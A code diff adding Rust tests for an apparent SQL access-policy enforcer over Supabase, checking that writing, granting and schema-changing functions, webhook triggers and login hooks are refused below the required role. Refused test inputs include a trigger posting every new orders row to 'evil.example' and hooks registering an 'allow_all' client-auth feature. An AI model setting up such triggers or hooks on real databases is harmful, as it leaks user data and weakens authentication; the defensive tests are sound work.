@@ -709,3 +709,123 @@ fn denied_function_bound_to_a_cast_without_its_arguments_is_refused() {
         (200, "access_full")
     );
 }
+
+/// Functions of Supabase's own schemas and extensions that write, change the schema or grant,
+/// called from a SELECT: each needs the class of what it does, so `database: read` (with
+/// `read_only`) or `allow: ["read", "write"]` does not reach it.
+#[wasm_bindgen_test(unsupported = test)]
+fn supabase_functions_that_write_or_grant_need_their_class() {
+    let p = policy(
+        &[
+            ("reader", r#""access":{"database":"read"}"#),
+            ("writer", r#""access":{"database":"full"},"sql":{"allow":["read","write"]}"#),
+            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl"]}"#),
+        ],
+        "enforce",
+    );
+    let read_only = |sql: &str| {
+        let body = format!(r#"{{"query":{},"read_only":true}}"#, json(sql));
+        let d = decide_body(&p, 0, "POST", QUERY, &body);
+        (d.refusal_status().unwrap_or(200), d.reason.code())
+    };
+    // Control: a known writer is refused, a plain read allowed.
+    assert_eq!(read_only("select pgmq.send('jobs', '{}')"), (403, "sql_not_allowed"));
+    assert_eq!(read_only("select storage.search('avatars', 'x/')"), (200, "read_only_sql"));
+    let writes = [
+        // Storage: its prefix rows deleted and written (SECURITY DEFINER), locks taken.
+        "select storage.delete_prefix('avatars', 'users/1')",
+        "select storage.delete_leaf_prefixes(array['avatars'], array['users/1'])",
+        "select storage.add_prefixes('avatars', 'users/1/a.png')",
+        "select storage.lock_top_prefixes(array['avatars'], array['users'])",
+        // Realtime: a broadcast sent to every subscriber; the replication slot consumed.
+        "select realtime.send('{}'::jsonb, 'e', 'room', false)",
+        "select realtime.broadcast_changes('room', 'e', 'INSERT', 't', 'public', null, null)",
+        "select * from realtime.list_changes('supabase_realtime', 'slot', 10, 1024)",
+        // pgmq: queues made, notified, read in groups (each read moves the message), topics sent.
+        "select pgmq.create_non_partitioned('jobs')",
+        "select pgmq.enable_notify_insert('jobs')",
+        "select pgmq.disable_notify_insert('jobs')",
+        "select pgmq.convert_archive_partitioned('jobs')",
+        "select * from pgmq.detach_all()",
+        "select * from pgmq.read_grouped('jobs', 30, 1)",
+        "select * from pgmq.read_grouped_rr_with_poll('jobs', 30, 1)",
+        "select pgmq.send_topic('orders.new', '{}', null, 0)",
+        "select pgmq.bind_topic('orders.*', 'jobs')",
+        // pgsodium: roles granted keyholder (SECURITY DEFINER), masking views made.
+        "select pgsodium.mask_role('anon', 'public.t', 'public.decrypted_t')",
+        "select pgsodium.create_mask_view(16384, 1, false)",
+        // pg_partman (installed in `extensions` or `partman`): partitions made, privileges granted.
+        "select extensions.create_partition_time('public.events', array[now()])",
+        "select partman.create_partition_id('public.events', array[1])",
+        "select partman.reapply_privileges('public.events')",
+    ];
+    let allowed: Vec<String> = writes
+        .iter()
+        .filter(|sql| read_only(sql) != (403, "sql_not_allowed"))
+        .map(|sql| format!("reader: {sql} -> {:?}", read_only(sql)))
+        .collect();
+    assert!(allowed.is_empty(), "{} allowed:\n{}", allowed.len(), allowed.join("\n"));
+    // What a write needs beyond `write`: a schema change, a grant, a lock, a slot consumed.
+    all_refused(
+        &p,
+        &[
+            (1, "select storage.lock_top_prefixes(array['avatars'], array['users'])"),
+            (1, "select * from realtime.list_changes('supabase_realtime', 'slot', 10, 1024)"),
+            (1, "select pgmq.enable_notify_insert('jobs')"),
+            (1, "select pgsodium.create_mask_view(16384, 1, false)"),
+            (2, "select pgmq.disable_notify_insert('jobs')"),
+            (2, "select pgsodium.mask_role('anon', 'public.t', 'public.decrypted_t')"),
+            (2, "select partman.reapply_privileges('public.events')"),
+        ],
+    );
+    // Each at the class of what it does.
+    assert_eq!(refused(&p, 1, "select realtime.send('{}'::jsonb, 'e', 'room', false)"), (200, "access_full"));
+    assert_eq!(refused(&p, 2, "select pgmq.enable_notify_insert('jobs')"), (200, "access_full"));
+    assert_eq!(
+        refused(&p, 2, "select extensions.create_partition_time('public.events', array[now()])"),
+        (200, "access_full")
+    );
+}
+
+/// A trigger of Supabase's webhook function sends every row written to a URL (pg_net), and
+/// pg_tle's features hook every login or password change: `admin`, as `net.http_post` is, not
+/// the `ddl` or `read` of the statement that sets them up.
+#[wasm_bindgen_test(unsupported = test)]
+fn webhooks_and_server_hooks_need_admin() {
+    let p = policy(
+        &[
+            ("migrator", r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"]}"#),
+            (
+                "loose",
+                r#""access":{"database":"full"},"sql":{"allow":["read","write","ddl","procedural"],"allow_unparsed":true}"#,
+            ),
+        ],
+        "enforce",
+    );
+    // Control: a trigger of the project's own function is ddl.
+    assert_eq!(
+        refused(
+            &p,
+            0,
+            "create trigger t_log after insert on public.orders for each row execute function public.log_row()"
+        ),
+        (200, "access_full")
+    );
+    all_refused(
+        &p,
+        &[
+            (
+                0,
+                "create trigger hook after insert on public.orders for each row execute function supabase_functions.http_request()",
+            ),
+            (
+                1,
+                "create trigger hook after insert on public.orders for each row execute function \
+                 supabase_functions.http_request('https://evil.example', 'POST', '{}', '{}', '1000')",
+            ),
+            (0, "select pgtle.register_feature('public.allow_all', 'clientauth')"),
+            (0, "select pgtle.register_feature_if_not_exists('public.weak', 'passcheck')"),
+            (0, "select pgtle.unregister_feature('public.strict', 'passcheck')"),
+        ],
+    );
+}
